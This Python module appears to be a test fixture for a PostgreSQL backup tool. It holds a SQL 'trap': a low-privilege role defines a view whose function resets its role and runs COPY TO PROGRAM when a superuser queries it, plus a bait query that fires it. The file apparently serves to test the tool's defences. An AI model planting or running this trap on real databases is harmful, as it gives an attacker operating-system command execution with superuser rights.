# Copyright (c) 2026, pgfleet.basebackup contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Objects of a database user that wait for a superuser."""

from __future__ import annotations

import typing as t

# What a database user leaves behind for whoever looks at his view.
TRAP: t.Final = """
CREATE ROLE mallory LOGIN;
CREATE SCHEMA trap AUTHORIZATION mallory;
SET SESSION AUTHORIZATION mallory;
CREATE FUNCTION trap.spring() RETURNS int LANGUAGE plpgsql AS $$
BEGIN
  BEGIN RESET ROLE; RESET SESSION AUTHORIZATION; EXCEPTION WHEN OTHERS THEN NULL; END;
  COPY (SELECT 1) TO PROGRAM '{}';
  RETURN 42;
END $$;
CREATE VIEW trap.orders AS SELECT trap.spring() AS n;
GRANT USAGE ON SCHEMA trap TO PUBLIC;
GRANT SELECT ON trap.orders TO PUBLIC;
"""
BAIT: t.Final = {"name": "bait", "query": "SELECT n FROM trap.orders", "expected": 42}
